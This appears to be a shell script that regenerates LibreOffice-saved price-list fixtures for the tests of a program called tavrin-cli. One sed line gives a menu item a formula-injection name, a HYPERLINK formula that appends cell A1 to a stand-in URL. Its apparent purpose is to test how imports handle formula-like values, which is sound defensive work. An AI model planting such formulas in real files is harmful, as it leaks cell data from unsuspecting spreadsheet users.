#!/usr/bin/env bash
# Writes the price lists of this folder again: lists of the landscape sample as LibreOffice Calc
# saves them after a user changed two values (Classic Burger's first price typed as 6.50, Iced
# Tea's first calorie count 95) and, in one list, gave Classic Burger a formula-like name.
# Needs a build (tavrin-cli) and LibreOffice Calc (Debian: libreoffice-calc-nogui); the tests
# only read the files it writes, so neither is needed to run them.
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
cli="$here/../../../build/src/tavrin-cli"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
export HOME="$work/home" TAVRIN_DATA_DIR="$work/data" QT_QPA_PLATFORM=offscreen

"$cli" samples "$work" >/dev/null
(cd "$work" && "$cli" prices export SampleLandscape_LAYOUT.MARBIX -o list.csv)
# The user's changes, as typed into the spreadsheet.
sed -i -e 's/,Classic Burger,1,1,5.99,540,/,Classic Burger,1,1,6.50,540,/' \
       -e 's/,Iced Tea,1,1,1.99,90,/,Iced Tea,1,1,1.99,95,/' "$work/list.csv"
sed -e 's/,Classic Burger,/,"'"'"'=HYPERLINK(""http:\/\/example.com\/""\&A1,""Click"")",/' \
    "$work/list.csv" > "$work/formula.csv"

# Read with the standard column types (numbers become numbers), as a user opening the file does.
import="CSV:44,34,76,1,,1033"
calc() { soffice --headless --infilter="$import" --convert-to "$1" --outdir "$2" "$3" >/dev/null 2>&1; }
calc "csv:Text - txt - csv (StarCalc):44,34,76,1" "$work/standard" "$work/list.csv"
cp "$work/standard/list.csv" "$here/libreoffice-standard.csv"
calc "csv:Text - txt - csv (StarCalc):44,34,1,1" "$work/western" "$work/list.csv"
cp "$work/western/list.csv" "$here/libreoffice-windows1252.csv"
calc "xlsx:Calc MS Excel 2007 XML" "$work/xlsx" "$work/list.csv"
cp "$work/xlsx/list.xlsx" "$here/libreoffice-saved.xlsx"
calc "csv:Text - txt - csv (StarCalc):44,34,76,1" "$work/formula" "$work/formula.csv"
cp "$work/formula/formula.csv" "$here/libreoffice-formula-name.csv"
# A spreadsheet set to a German locale: semicolons and decimal commas.
LANG=de_DE.UTF-8 LC_ALL=de_DE.UTF-8 soffice --headless --infilter="$import" \
  --convert-to "csv:Text - txt - csv (StarCalc):59,34,76,1" --outdir "$work/german" "$work/list.csv" >/dev/null 2>&1
cp "$work/german/list.csv" "$here/libreoffice-semicolons.csv"
# The program's own workbook, opened and saved again by LibreOffice without a change.
(cd "$work" && "$cli" prices export SampleLandscape_LAYOUT.MARBIX -o ours.xlsx)
soffice --headless --convert-to "xlsx:Calc MS Excel 2007 XML" --outdir "$work/resaved" "$work/ours.xlsx" >/dev/null 2>&1
cp "$work/resaved/ours.xlsx" "$here/libreoffice-resaved-own.xlsx"
